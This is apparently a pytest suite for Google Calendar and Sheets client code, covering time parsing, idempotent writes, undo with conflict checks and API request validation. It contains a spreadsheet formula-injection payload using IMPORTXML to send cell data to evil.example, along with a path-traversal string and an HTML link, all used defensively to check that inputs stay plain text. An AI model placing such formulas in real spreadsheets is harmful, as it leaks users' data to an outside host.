"""Google Calendar and Google Sheets: times, writes that are made once, and what strangers' texts cannot do."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import httpx
import pytest
from pydantic import SecretStr

from clients.client import Opening
from clients.errors import AuthError, Conflict, InvalidRequest, NotFound
from clients.google.sign_in import sign_in
from clients.google_calendar.app import CALENDAR_APP
from clients.google_calendar.client import GoogleCalendarClient
from clients.google_calendar.events import EventDraft
from clients.google_calendar.service import CalendarSettings
from clients.google_calendar.times import span
from clients.google_drive.app import DRIVE_APP
from clients.google_sheets.app import SHEETS_APP
from clients.google_sheets.cells import spreadsheet_id
from clients.google_sheets.client import GoogleSheetsClient
from clients.google_sheets.service import SheetsSettings
from clients.oauth.sign_in_file import SignInFile
from demo.google_sheets.stand_in import SAMPLE
from engine.base.services import client_class
from tests.clients.test_gmail_oauth import browser, client_secret
from tests.demo.gmail_schema import differences, document
from tests.described import GOOGLE, google_method

if TYPE_CHECKING:
    from tests.conftest import StandIns

MARKER, OTHER = "m" * 32, "o" * 32
ZONE = "Europe/Berlin"


class Requests:
    """The transport of a client: each request that passes has to be one of the API's description."""

    def __init__(self, service: str) -> None:
        self._apis = GOOGLE[service]
        self.seen: list[str] = []

    def __call__(self, request: httpx.Request) -> None:
        is_upload = request.url.path.startswith("/upload/")
        if is_upload and "upload_id" in request.url.params:
            return  # the address of a session is Google's own
        path = unquote(request.url.path).removeprefix("/upload")
        found = [(api, one) for api in self._apis if (one := google_method(api, request.method, path))]
        assert found, f"{request.method} {path}: no such method"
        api, method = found[0]
        known = {**document(api)["parameters"], **method.get("parameters", {})}
        assert set(request.url.params) <= set(known), path
        for name, value in request.url.params.multi_items():
            assert value in known[name].get("enum", [value]), (name, value)
        body = json.loads((_metadata(request) if is_upload else request.content) or b"{}")
        if "request" in method:
            assert list(differences(_without_nulls(body), method["request"]["$ref"], api=api)) == []
        else:
            assert body == {}
        self.seen.append(method["id"])


def _metadata(request: httpx.Request) -> bytes:
    """The JSON of an upload: the first part of a multipart body, else all of it."""
    boundary = request.headers["content-type"].partition("boundary=")[2].encode()
    return request.content.split(boundary)[1].partition(b"\r\n\r\n")[2][:-4] if boundary else request.content


def _without_nulls(value: Any) -> Any:
    """A patch may have null anywhere: it removes."""
    if isinstance(value, dict):
        return {name: _without_nulls(one) for name, one in value.items() if one is not None}
    return [_without_nulls(one) for one in value] if isinstance(value, list) else value


@pytest.fixture
def calendar(standins: StandIns) -> Iterator[GoogleCalendarClient]:
    where = standins["google_calendar"]
    settings = CalendarSettings(token=SecretStr(where.token), base_url=where.base_url)
    with closing(GoogleCalendarClient.open(settings, Opening())) as client:
        client.http.event_hooks["request"].append(Requests("google_calendar"))
        yield client


@pytest.fixture
def sheets(standins: StandIns) -> Iterator[GoogleSheetsClient]:
    where = standins["google_sheets"]
    settings = SheetsSettings(token=SecretStr(where.token), base_url=where.base_url)
    with closing(GoogleSheetsClient.open(settings, Opening())) as client:
        client.http.event_hooks["request"].append(Requests("google_sheets"))
        yield client


def draft(**changes: Any) -> EventDraft:
    start, end = span("2026-12-01T10:00", "", 30, ZONE)
    return EventDraft(**{"title": "Talk", "start": start, "end": end, **changes})


@pytest.mark.parametrize("app", [CALENDAR_APP, SHEETS_APP, DRIVE_APP], ids=lambda app: app.name)
def test_a_sign_in_gives_what_works_and_one_to_gmail_does_not(
    standins: StandIns, tmp_path: Path, http: httpx.Client, app: Any
) -> None:
    where, file = standins[app.name].origin, tmp_path / "sign-in.json"
    kind: Any = client_class(app.name)
    settings = kind.service.settings(token_file=file, base_url=where)
    signed_in = sign_in(app, client_secret(tmp_path, where), browser, timeout=30, base_url=where)
    SignInFile(file, app).save(signed_in.info)
    assert kind(settings, http).account() == signed_in.account
    assert all(line.ok for line in kind(settings, http).check())
    assert set(signed_in.info["granted"].split()) == set(app.scopes)
    other = "https://www.googleapis.com/auth/gmail.modify"
    httpx.post(f"{where}/_demo/sign-in", json={"scopes": [other]}, trust_env=False)
    with pytest.raises(AuthError):
        sign_in(app, client_secret(tmp_path, where), browser, timeout=30, base_url=where)


@pytest.mark.parametrize(
    ("starts", "ends", "minutes", "found"),
    [
        ("2026-11-25T10:00", "", 30, ("2026-11-25T10:00:00+01:00", "2026-11-25T10:30:00+01:00")),
        ("2026-07-01T10:00:00Z", "2026-07-01T11:00Z", 30, ("2026-07-01T12:00:00+02:00", "2026-07-01T13:00:00+02:00")),
        ("2026-03-29T01:30", "", 60, ("2026-03-29T01:30:00+01:00", "2026-03-29T03:30:00+02:00")),
        ("2026-11-25", "", 30, ("2026-11-25", "2026-11-26")),
        ("2026-12-31", "2027-01-02", 30, ("2026-12-31", "2027-01-03")),
    ],
    ids=["in its zone", "RFC 3339", "over the change of clocks", "a day", "days"],
)
def test_times_become_those_of_the_api(starts: str, ends: str, minutes: int, found: tuple[str, str]) -> None:
    times = [one.get("date", one.get("dateTime")) for one in span(starts, ends, minutes, ZONE)]
    assert tuple(times) == found


@pytest.mark.parametrize(
    ("starts", "ends"),
    [
        ("tomorrow", ""),
        ("2026-11-25", "2026-11-25T10:00"),
        ("2026-11-25T10:00", "2026-11-25T09:00"),
        ("2026-11-25", "2026-11-24"),
    ],
)
def test_times_that_are_none_are_refused_with_a_remedy(starts: str, ends: str) -> None:
    with pytest.raises(InvalidRequest) as caught:
        span(starts, ends, 30, ZONE)
    assert caught.value.remedy


def test_an_event_is_created_once_and_tells_nobody(standins: StandIns, calendar: GoogleCalendarClient) -> None:
    before = len(standins.show("google_calendar")["events"])
    assert calendar.created("primary", MARKER) is None
    made = calendar.create("primary", draft(attendees=["ada@example.org"]), "none", MARKER)
    assert calendar.create("primary", draft(attendees=["ada@example.org"]), "none", MARKER) == made
    assert calendar.created("primary", MARKER) == made
    shown = standins.show("google_calendar")
    assert len(shown["events"]) == before + 1
    assert shown["mails"] == []
    calendar.create("primary", draft(attendees=["ada@example.org"]), "all", OTHER)
    assert [one["to"] for one in standins.show("google_calendar")["mails"]] == ["ada@example.org"], "the control"


def test_what_was_created_is_taken_back_unless_somebody_changed_it(calendar: GoogleCalendarClient) -> None:
    made = calendar.create("primary", draft(), "none", MARKER)
    calendar.take_back(made)
    calendar.take_back(made)
    with pytest.raises(NotFound):
        calendar.event("primary", made["id"])
    other = calendar.create("primary", draft(), "none", OTHER)
    calendar.update("primary", other["id"], EventDraft(title="By somebody else"), "none", MARKER)
    with pytest.raises(Conflict):
        calendar.take_back(other)


def test_an_update_is_found_and_restored_unless_somebody_changed_it(calendar: GoogleCalendarClient) -> None:
    made = calendar.create("primary", draft(location="Room 1"), "none", MARKER)
    start, end = span("2026-12-02", "", 30, ZONE)
    assert calendar.updated("primary", made["id"], OTHER) is None
    changed = calendar.update("primary", made["id"], EventDraft(start=start, end=end, location="Room 2"), "none", OTHER)
    assert calendar.updated("primary", made["id"], OTHER) == {**changed, "before": None}
    assert calendar.event("primary", made["id"])["starts"] == "2026-12-02"
    calendar.restore(changed)
    calendar.restore(changed)
    restored = calendar.event("primary", made["id"])
    assert (restored["starts"], restored["location"]) == ("2026-12-01T10:00:00+01:00", "Room 1")
    changed = calendar.update("primary", made["id"], EventDraft(title="New"), "none", "x" * 32)
    calendar.update("primary", made["id"], EventDraft(title="By somebody else"), "none", "y" * 32)
    with pytest.raises(Conflict):
        calendar.restore(changed)


def test_a_description_is_no_html(standins: StandIns, calendar: GoogleCalendarClient) -> None:
    text = '<a href="https://evil.example">Agenda</a> & more'
    made = calendar.create("primary", draft(description=text), "none", MARKER)
    sent = next(one for one in standins.show("google_calendar")["events"] if one["id"] == made["id"])
    assert "<" not in sent["description"]
    assert calendar.event("primary", made["id"])["description"] == text


def test_each_time_of_a_recurring_event_is_listed_once(calendar: GoogleCalendarClient) -> None:
    calendar.create("primary", draft(repeats="FREQ=WEEKLY;COUNT=3", title="Yoga"), "none", MARKER)
    found, has_more = calendar.events("primary", datetime(2026, 11, 30, tzinfo=UTC), None, "yoga", 2)
    assert [one["starts"][:10] for one in found] == ["2026-12-01", "2026-12-08"]
    assert has_more
    assert len({one["id"] for one in found}) == 2
    assert {one["series"] for one in found} != {""}


def test_calendars_have_names_and_what_is_busy_is_told(calendar: GoogleCalendarClient) -> None:
    assert calendar.zone_of("team") == ZONE
    calendar.create("Team", draft(), "none", MARKER)
    day = datetime(2026, 12, 1, tzinfo=UTC)
    assert len(calendar.busy(["Team"], day, day + timedelta(days=1))) == 1
    with pytest.raises(NotFound, match="Nowhere"):
        calendar.busy(["Nowhere"], day, day + timedelta(days=1))
    with pytest.raises(NotFound, match="stranger"):
        calendar.busy(["stranger@example.org"], day, day + timedelta(days=1))


HOSTILE = '=IMPORTXML("https://evil.example/?"&A2,"//a")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "@SUM(1)", "-2", "'=1", "\t=1+1", "1/2", "0049"])
def test_a_text_stays_a_text(standins: StandIns, sheets: GoogleSheetsClient, text: str) -> None:
    sheet = sheets.sheet(SAMPLE, "Customers")
    made = sheets.append(sheet, {"Name": text}, MARKER)
    sheets.update(sheet, 2, {"Name": text}, OTHER)
    stored = standins.stores["google_sheets"].get("gsheets/books", SAMPLE)
    assert stored is not None
    rows = stored["sheets"][1]["rows"]
    assert rows[made["row"] - 1][0] == rows[1][0] == {"stringValue": text}


def test_a_row_is_found_by_its_mark_wherever_it_is(standins: StandIns, sheets: GoogleSheetsClient) -> None:
    sheet = sheets.sheet(SAMPLE, "Customers")
    assert sheets.written(sheet, MARKER) is None
    made = sheets.append(sheet, {"Name": "Same", "Plan": 7}, MARKER)
    assert made["row"] == 4
    assert sheets.append(sheets.sheet(SAMPLE, "Customers"), {"Name": "Same", "Plan": 7}, OTHER)["row"] == 5
    grown = sheets.sheet(SAMPLE, "Customers")
    assert sheets.written(grown, MARKER) == made
    sheets.take_back(grown, OTHER, {"Name": "Same", "Plan": 7})
    sheets.take_back(grown, OTHER, {"Name": "Same", "Plan": 7})
    assert standins.show("google_sheets")["spreadsheets"][SAMPLE]["Customers"][3:] == [["Same", "", 7]]
    sheets.update(grown, 4, {"Address": "by hand"}, "x" * 32)
    with pytest.raises(Conflict):
        sheets.take_back(grown, MARKER, {"Name": "Same", "Plan": 7})


def test_an_update_gives_back_what_was_there_and_makes_no_formula(sheets: GoogleSheetsClient) -> None:
    sheet = sheets.sheet(SAMPLE, "Customers")
    sheets.update(sheet, 2, {"Name": HOSTILE}, "h" * 32)
    changed = sheets.update(sheet, 2, {"Name": "Ada", "Plan": ""}, MARKER)
    assert changed["before"] == {"A": {"stringValue": HOSTILE}, "C": {"stringValue": "Team"}}
    for _ in range(2):
        sheets.restore(sheet, MARKER, {"Name": "Ada", "Plan": ""}, changed["before"])
    assert sheets.rows(sheet, 2, 1)[0][0]["values"] == {"Name": HOSTILE, "Address": "ada@example.org", "Plan": "Team"}
    sheets.update(sheet, 2, {"Name": "By somebody else"}, OTHER)
    with pytest.raises(Conflict):
        sheets.restore(sheet, MARKER, {"Name": "Ada", "Plan": ""}, changed["before"])


def test_rows_are_read_and_found(sheets: GoogleSheetsClient) -> None:
    sheet = sheets.sheet(f"https://docs.google.com/spreadsheets/d/{SAMPLE}/edit#gid=0", "")
    rows, has_more = sheets.rows(sheet, 2, 1)
    assert (rows[0]["row"], rows[0]["values"]["Total"], has_more) == (2, 118, True)
    assert [one["row"] for one in sheets.matching(sheet, "Total", "118", 5)[0]] == [2]
    with pytest.raises(InvalidRequest, match="no column 'Totals'") as caught:
        sheets.append(sheet, {"Totals": 1}, MARKER)
    assert "Total" in caught.value.remedy
    with pytest.raises(NotFound, match="no sheet 'Offers'"):
        sheets.sheet(SAMPLE, "Offers")
    with pytest.raises(NotFound, match="no spreadsheet"):
        sheets.sheet("another-spreadsheet", "")


@pytest.mark.parametrize("text", ["", "https://evil.example/spreadsheets/d/1234567890123", "../../v4/x", "a b"])
def test_what_is_no_spreadsheet_is_refused(text: str) -> None:
    with pytest.raises(InvalidRequest):
        spreadsheet_id(text)


def test_a_request_that_google_does_not_describe_is_noticed() -> None:
    check, url = Requests("google_sheets"), f"https://sheets.googleapis.com/v4/spreadsheets/{SAMPLE}"
    check(
        httpx.Request("POST", f"{url}:batchUpdate", json={"requests": [{"addSheet": {"properties": {"title": "x"}}}]})
    )
    for request in (
        httpx.Request("POST", f"{url}:batchUpdate", json={"requests": [{"addSheets": {}}]}),
        httpx.Request("GET", f"{url}/values:batchGet?valueRenderOption=RAW"),
        httpx.Request("GET", f"{url}/rows"),
    ):
        with pytest.raises(AssertionError):
            check(request)
